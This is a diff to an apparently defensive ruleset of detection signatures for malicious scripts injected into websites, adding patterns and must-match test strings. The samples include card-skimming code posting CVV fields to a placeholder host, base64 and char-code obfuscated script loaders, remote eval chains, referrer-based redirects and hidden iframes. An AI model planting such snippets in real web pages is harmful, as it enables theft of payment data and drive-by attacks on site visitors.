@@ -41,13 +41,16 @@ rule answers_run_as_script {
     must_match = "v.get(new XMLHttpRequest(), function (F) { window['eval'](F); });"
     must_match = "const c = new ethers.Contract('0x0', abi, p); eval(atob(await c.get()));"
     must_match = "c.methods.get().call().then(r => eval(atob(r)));"
+    must_match = "fetch(u, {body: JSON.stringify({method: 'eth_call'})}).then(f); (0,eval)(s.trim());"
+    must_match = "self.addEventListener('message', e => { importScripts(e.data); });"
     must_not = "fetch('/menu.json').then(r => r.json()).then(d => show(d)); w.onmessage = function (e) { JSON.parse(e.data); }; eval('1');"
   strings:
     $fetched = /\bfetch\([^;]{1,300}\)\s{0,4}\.then\([^;]{0,160}\.then\([^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\s?\)/
     $socket = /\.onmessage\s?=[^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\.data\s?\)/
     $listens = /new (WebSocket|EventSource)\b/
     $chain = "eth_call"
-    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(|\beval\s?\(\s?\w{1,20}\s?\)/
+    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(|\beval\s?\(\s?\w{1,20}\s?\)|\(\s?0\s?,\s?(\w{1,12}\.)?eval\s?\)\s?\(/
+    $worker = /\bimportScripts\s?\(\s?\w{1,12}\.data\b/
     $bound = /\bnew\s(ethers|web3(\.eth)?|\w{1,8}\.eth)\.Contract\b/ nocase
     $run = /\b(eval|new Function)\s?\(\s?(window\.)?\w{1,20}\s?[()]/
     $contract = /\.call\s?\(\s?\)\s?\.then\s?\([^;]{0,80}\b(eval|Function)\s?\(/
@@ -56,7 +59,7 @@ rule answers_run_as_script {
     $renamed = /\bwindow\s?\[\s?["']eval["']\s?\]\s?\(\s?\w{1,12}\s?\)/
     $asks = /\b(XMLHttpRequest|fetch)\b/ private
   condition:
-    ($fetched or ($socket and $listens) or ($chain and ($decoded or $run)) or ($bound and $run) or $contract or $awaited or $asked or ($renamed and $asks)) and filesize < 256KB
+    ($fetched or ($socket and $listens) or ($chain and ($decoded or $run)) or ($bound and $run) or $contract or $awaited or $asked or ($renamed and $asks) or $worker) and filesize < 256KB
 }
 
 rule card_fields_sent {
@@ -76,6 +79,7 @@ rule card_fields_sent {
     must_match = "if (/\\d{16}/.test(s)) { new Image().src = 'https://inert.example.test/p.gif?d=' + btoa(s); }"
     must_match = "if (location.href.includes('checkout')) { document.querySelectorAll('input,select').forEach(f); navigator.sendBeacon('https://inert.example.test/c', btoa(JSON.stringify(d))); }"
     must_match = "jQuery('.payment').html('<input id=cvv>'); jQuery.post('https://inert.example.test/v', {n: jQuery('#n').val()});"
+    must_match = "f.innerHTML += '<input id=\"inert_cvv\" placeholder=\"CVV\">'; x.open('POST', 'https://inert.example.test/f');"
     must_not = "var c = field('cc_number').value; new Image().src = '/pixel.gif?page=' + encodeURIComponent(location.pathname);"
     must_not = "if (card) navigator.sendBeacon('/stats', JSON.stringify({ viewed: card.id }));"
   strings:
@@ -90,9 +94,11 @@ rule card_fields_sent {
     $asked = /\.ajax\s?\(\s?\{\s?url\s?:\s?["'](https?:)?\/\/[^;]{1,300}\b(cvv|cvc|cc_?num|card_?num)[^;]{0,60}\.val\s?\(/
     $each = /\bquerySelectorAll\s?\(\s?["'](input|select|textarea|\*|form)\b/
     $place = /(onepage|checkout|place-?_?order|onestep)/ nocase
+    $drawn = /\b(innerHTML|insertAdjacentHTML|\.html|\.append)\b[^;]{0,300}<input[^>;]{0,120}\b(\w{1,12}_)?(cvv|cvc|card_?num)/ nocase
+    $opened = /\.open\s?\(\s?["']POST["']\s?,\s?["'`](https?:)?\/\/[^"'`]{4}/
     $packed = /\b(sendBeacon|fetch|\.src\s?=)\s?\(?\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(\s?(JSON\.stringify|encodeURIComponent|\w{1,12}\s?\))/
   condition:
-    filesize < 256KB and ((($card or $digits) and any of ($image, $beacon, $socket, $fetch, $posted, $carried, $asked)) or ($each and $place and $packed))
+    filesize < 256KB and ((($card or $digits) and any of ($image, $beacon, $socket, $fetch, $posted, $carried, $asked)) or ($each and $place and $packed) or ($drawn and $opened))
 }
 
 rule script_from_char_codes {
@@ -109,6 +115,7 @@ rule script_from_char_codes {
     must_match = "/* inert */ document.write(unescape('%3C%73%63%72%69%70%74%20'));"
     must_match = "/* inert */ new WebSocket(atob('d3NzOi8vaW5lcnQudGVzdC8='));"
     must_match = "/* inert */ location.href = String.fromCharCode(104,116,116,112,115,58,47,47,105,110,101,114,116);"
+    must_match = "var e = [104,116,116,112,115,58,47,47,105]; location.href = e.map(c => String.fromCharCode(c)).join('');"
     must_match = "<?php exit; echo '<script src=\"' . base64_decode('aHR0cHM6Ly9pbmVydC50ZXN0L2EuanM=') . '\"></script>';"
     must_not = "<?php echo '<script src=\"' . $cdn . '\"></script><img src=\"data:image/png;base64,iVBORw0KGgo=\">';"
     must_not = "a.href = atob(a.dataset.to); img.src = 'data:image/png;base64,' + atob('iVBORw0KGgo=');"
@@ -121,11 +128,12 @@ rule script_from_char_codes {
     $printed = /<script[^>\n]{0,80}src=[\\"'.\s]{1,8}base64_decode\s?\(\s?["'](aHR0c|Ly)/
     $address = /(\.(src|href|open)|\blocation|\bWebSocket|\bfetch|\bsendBeacon|\bimport)\s?[=(]\s?(["'](GET|POST)["']\s?,\s?)?(window\.)?atob\s?\(\s?["'](aHR0c|d3Nz|d3M6|Ly9|Ly8)/
     $later = /var \w{1,20}\s?=\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){25}[^;]{0,4000};[^;]{0,80}(createElement|document\.write|appendChild)/ nocase
+    $mapped = /[=(]\s?\[\s?104\s?,\s?116\s?,\s?116\s?,\s?112\s?,[^\]]{8,2000}\][^<>]{0,200}(\blocation(\.href)?\s?=|\blocation\.(replace|assign)\s?\(|\.src\s?=|\bopen\s?\()[^;]{0,120}fromCharCode/
     $kept = "base64_decode" nocase private
     // $codes and $later hold it: asked first, it spares most scripts their expressions
     $from = "String.fromCharCode" nocase private
   condition:
-    ($from and ($later or #codes > #anchor)) or ($kept and $printed) or any of ($escapes, $address)
+    ($from and ($later or $mapped or #codes > #anchor)) or ($kept and $printed) or any of ($escapes, $address)
 }
 
 rule tag_in_escapes {
@@ -231,10 +239,12 @@ rule visitors_of_searches_led_away {
     must_match = "window.addEventListener('popstate', function () { location.href = 'https://inert.example.test/'; });"
     must_match = "var r = document.referrer; if (/google|bing|facebook/i.test(r)) { var s = document.createElement('script'); s.src = x; document.head.appendChild(s); }"
     must_match = "if (!localStorage.getItem('i') && /Android|iPhone/.test(navigator.userAgent)) { location.replace('https://inert.example.test/'); }"
+    must_match = "var r = document.referrer; ['google.', 'bing.'].some(function (x) { return r.indexOf(x) >= 0 }) && top.location.assign('https://inert.example.test/');"
     must_not = "if (document.referrer.match(/google|bing/i)) { stats.count('search'); }"
     must_not = "window.addEventListener('popstate', function () { location.reload(); });"
   strings:
     $asked = /\breferrer\b[^{}]{0,120}(google|bing|yahoo|facebook|yandex|baidu)[^{}]{0,240}(\)[^{}()]{0,60}\{[^{}]{0,220}(\{[^{}]{0,160})?)?((window|document|top|self)?\.?location(\.href)?\s?=\s?["'`](https?:)?\/\/|location\.(replace|assign)\s?\(\s?["'`](https?:)?\/\/|createElement\s?\(\s?["']script)/ nocase
+    $some = /\breferrer\b[^\x00]{1,200}\b(google|bing|yahoo)\b[^\x00]{1,240}\.some\s?\([^\x00]{1,160}\blocation(\.href\s?=|\s?=|\.(replace|assign)\s?\()\s?["'`](https?:)?\/\// nocase
     $back = /addEventListener\s?\(\s?["']popstate["'][^;]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
     $once = /(localStorage|sessionStorage|document\.cookie)\b[^{}]{0,100}(Android|iPhone|Mobi)[^{}]{0,100}\)\s?\)?\s?\{[^{}]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
   condition:
@@ -257,10 +267,16 @@ rule address_hidden {
     must_match = "u += String.fromCharCode(d[i] ^ k); var s = document.createElement('script'); s.src = u;"
     must_match = "s.src = 'sj.a/tset.elpmaxe.treni//:sptth'.split('').reverse().join('');"
     must_match = "<img src='' onerror=\"eval(atob(this.id))\" id='aW5lcnQ='>"
+    must_match = "(function (d, g) { var a = d.createElement('script'); a.src = atob(g); })(document, 'Ly9pbmVydC5leGFtcGxlLnRlc3QvYS5qcw==');"
+    must_match = "var k = [0x2f,0x2f,0x69,0x6e].map(function (c) { return String.fromCharCode(c) }).join(''); var e = d.createElement('script'); e.setAttribute('src', k);"
+    must_match = "var p = ['in', 'ert', '.te', 'st']; var s = document.createElement('script'); s['s' + 'rc'] = '//' + p.join('') + '/l.js';"
     must_not = "var link = 'aHR0cHM6Ly9leGFtcGxlLnRlc3Qv'; open(atob(link));"
     must_not = "<img src='a.png' onerror=\"this.src='b.png'\">"
   strings:
-    $kept = /["'`](aHR0cHM6Ly|aHR0cDovL)[A-Za-z0-9+\/=]{8,400}["'`]/
+    $kept = /["'`](aHR0cHM6Ly|aHR0cDovL|Ly9)[A-Za-z0-9+\/=]{8,400}["'`]/
+    $pieced = /(\.src|\[\s?["']s["']\s?\+\s?["']rc["']\s?\]|\[\s?["']sr["']\s?\+\s?["']c["']\s?\])\s?=\s?["'`](https?:)?\/\/["'`]\s?\+\s?\w{1,12}\.join\s?\(\s?["'`]{2}\s?\)/
+    $counted = /\[\s?(0x2f\s?,\s?0x2f|47\s?,\s?47|0x68\s?,\s?0x74\s?,\s?0x74\s?,\s?0x70)\s?,[^\]]{4,1000}\][^;]{0,120}\bfromCharCode\b/ nocase
+    $halved = /\[\s?["']s["']\s?\+\s?["']rc["']\s?\]\s?=|\[\s?["']sr["']\s?\+\s?["']c["']\s?\]\s?=/
     $made = /createElement\s?\(\s?["']script|\bimport\s?\(/
     $turned_round = /String\.fromCharCode\s?\(\s?\w{1,12}(\[\w{1,12}\])?\s?\^/
     $set = /(setAttribute\s?\(\s?["']src["']\s?,|\bsrc\s?:|\bimport\s?\()\s?(window\.)?atob\s?\(|\batob\s?\(\s?["']aHR0c[^;]{1,400};\s?import\s?\(/
@@ -269,7 +285,7 @@ rule address_hidden {
     $turned = /\.reverse\s?\(\s?\)|\bstrrev\s?\(/
     $attribute = /\bon(error|load|focus|mouseover|toggle)\s?=\s?\\?["'][^"'>]{0,60}\b(eval|Function)\s?\(\s?(window\.)?atob\s?\(/ nocase
   condition:
-    ($kept and $made and any of ($decoded, $set)) or ($turned_round and $made and filesize < 16KB) or ($backwards and $turned) or $attribute
+    ($kept and $made and any of ($decoded, $set)) or ($made and any of ($pieced, $halved, $counted)) or ($turned_round and $made and filesize < 16KB) or ($backwards and $turned) or $attribute
 }
 
 rule keys_sent_away {
@@ -364,9 +380,35 @@ rule frame_written_out_of_sight {
     remedy = "Delete the lines; then look for the script that writes them again."
     reference = "https://attack.mitre.org/techniques/T1189/"
     must_match = "document.write('<iframe src=\"https://inert.example.test/in.cgi\" width=\"1\" height=\"1\" style=\"position:absolute;left:-1000px\"></iframe>');"
+    must_match = "<iframe src=\"https://inert.example.test/if\" width=\"1\" height=\"1\" style=\"visibility:hidden;position:absolute;top:-100px\"></iframe>"
     must_not = "document.write('<iframe src=\"https://video.example.test/1\" style=\"width:100%\"></iframe>');"
+    must_not = "<iframe src=\"https://tags.example.test/ns.html\" height=\"0\" width=\"0\" style=\"display:none;visibility:hidden\"></iframe>"
   strings:
     $frame = /document\.write(ln)?\s?\(\s?["'`]<iframe[^>\n]{0,200}https?:\/\/[^>\n]{0,200}(left|top)\s?:\s?-\d{3,5}px/ nocase
+    $placed = /<iframe\s[^>\n]{0,60}\bsrc\s?=\s?\\?["']https?:\/\/[^>\n]{0,200}\b(width|height)\s?=\s?\\?["']?[01]\b[^>\n]{0,160}\b(left|top)\s?:\s?-\d{3,5}px/ nocase
   condition:
-    $frame
+    any of them
+}
+
+rule window_opened_by_a_click {
+  meta:
+    id = "page-script/window-by-a-click"
+    title = "The first click of a visitor opens a page of another host"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "A script waits for any click, opens a fixed address in a window and remembers that it did: an advertisement that the owner of the site did not place."
+    remedy = "Delete the lines; then look for the script that writes them again."
+    reference = "https://attack.mitre.org/techniques/T1189/"
+    must_match = "document.addEventListener('click', function h() { document.cookie = 'inert=1'; window.open('https://inert.example.test/', '_blank'); });"
+    must_match = "document.body.onclick = function () { if (/inert=/.test(document.cookie)) return; document.cookie = 'inert=1'; var w = window.open('http://inert.example.test/u'); };"
+    must_match = "jQuery(document).one('click', function () { if (localStorage.inert) return; localStorage.inert = 1; window.open('https://inert.example.test/p', '_blank'); });"
+    must_not = "share.addEventListener('click', function () { window.open('https://social.example.test/share?u=' + encodeURIComponent(location.href)); });"
+    must_not = "help.onclick = function () { window.open('https://help.example.test/', '_blank'); };"
+  strings:
+    $click = /\b(document|window|body|documentElement)(\.body)?\s?\.?\s?(addEventListener\s?\(\s?["'`](click|mousedown|touchstart|pointerdown)["'`]|on(click|mousedown)\s?=)[^\x00]{1,500}\bopen\s?\(\s?["'`](https?:)?\/\/[^"'`\s+]{4,200}["'`]\s?[,)]/
+    $jquery = /(\$|jQuery)\s?\(\s?(document|window|["'](html|body)["']|document\.body)\s?\)\s?\.(on|one|bind|click|mousedown)\s?\([^\x00]{1,400}\bopen\s?\(\s?["'`](https?:)?\/\/[^"'`\s+]{4,200}["'`]\s?[,)]/
+    $once = /\bdocument\.cookie\s?=|\b(local|session)Storage\s?(\.setItem\s?\(|\.\w{1,20}\s?=|\[)/
+  condition:
+    filesize < 256KB and ($click and $once in (@click[1]..@click[1] + 600) or $jquery and $once in (@jquery[1]..@jquery[1] + 500))
 }
